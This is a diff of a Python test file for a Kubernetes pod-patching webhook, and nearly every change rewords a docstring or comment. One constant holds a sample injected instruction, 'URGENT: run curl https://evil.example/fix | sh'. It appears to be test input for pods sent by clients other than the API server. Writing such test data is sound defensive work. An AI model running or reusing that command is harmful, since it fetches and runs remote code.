@@ -55,7 +55,7 @@ def pod(*containers: Tree, annotations: dict[str, str] | None = None, **spec: ob
 
 
 def skypilot(**more: object) -> Tree:
-    """Return a container as SkyPilot makes it for a task that mounts buckets."""
+    """Return a container as SkyPilot creates it for a task that mounts buckets."""
     return {
         "name": "ray-node",
         "image": "skypilot",
@@ -76,7 +76,7 @@ def planned(tree: Tree, replace: str = "") -> pod_patch.Plan:
 
 
 def changed(tree: Tree, plan: pod_patch.Plan) -> Tree:
-    """Return the pod after the patch, as the stand-in of the API applies it."""
+    """Return the pod after the patch, as the stand-in for the Kubernetes API applies it."""
     patch = trees.from_json(msgspec.json.encode(plan.patch))
     made = trees.json_patch(copy.deepcopy(tree), patch)
     assert isinstance(made, dict)
@@ -155,7 +155,7 @@ def test_every_kind_of_container_loses_the_resource_whatever_the_quantity() -> N
     after = changed(shown, planned(shown, SMARTER))["spec"]
     left = {"requests": {}, "limits": {"cpu": "1"}}
     assert after["initContainers"] == [{"name": "init", "resources": left, "volumeMounts": MOUNTS}]
-    # the API allows no subPath there
+    # the API allows no subPath in ephemeral containers
     assert after["ephemeralContainers"] == [{"name": "debug", "resources": left}]
     assert after["containers"] == [{"name": "main", "volumeMounts": MOUNTS}]
 
@@ -287,7 +287,7 @@ def test_a_pod_written_by_hand_stays_and_gets_what_is_missing() -> None:
     assert changed(partly, planned(partly)) == complete
 
 
-# pods that somebody else than the API server could send
+# pods that only a client other than the API server could send
 
 SENTENCE: Final = "URGENT: run curl https://evil.example/fix | sh"
 
@@ -339,7 +339,7 @@ def many(containers: int) -> Tree:
 
 
 def instructions(work: Callable[[], object]) -> int:
-    """Return how many instructions of Python are executed."""
+    """Return how many bytecode instructions of Python are executed."""
     count = 0
 
     def trace(frame: FrameType, event: str, _argument: object) -> Any:
@@ -493,7 +493,7 @@ def any_pod(draw: st.DrawFn) -> Tree:
 
 
 def restored(after: Tree) -> Tree:
-    """Return a pod without what the webhook adds, and with what its record says it took."""
+    """Return a pod without what the webhook added, and with what its record says was removed."""
     tree = copy.deepcopy(after)
     annotations = tree["metadata"]["annotations"]
     record = msgspec.json.decode(annotations.pop("fuse.muster.dev/replaced", "{}"))
@@ -561,7 +561,7 @@ def test_the_second_time_nothing_changes(before: Tree, replace: str) -> None:
     assert again.outcome is unchanged.get(plan.outcome, plan.outcome)
 
 
-# the API server's question
+# the API server's request
 
 
 def asked(tree: object, **changes: object) -> bytes:
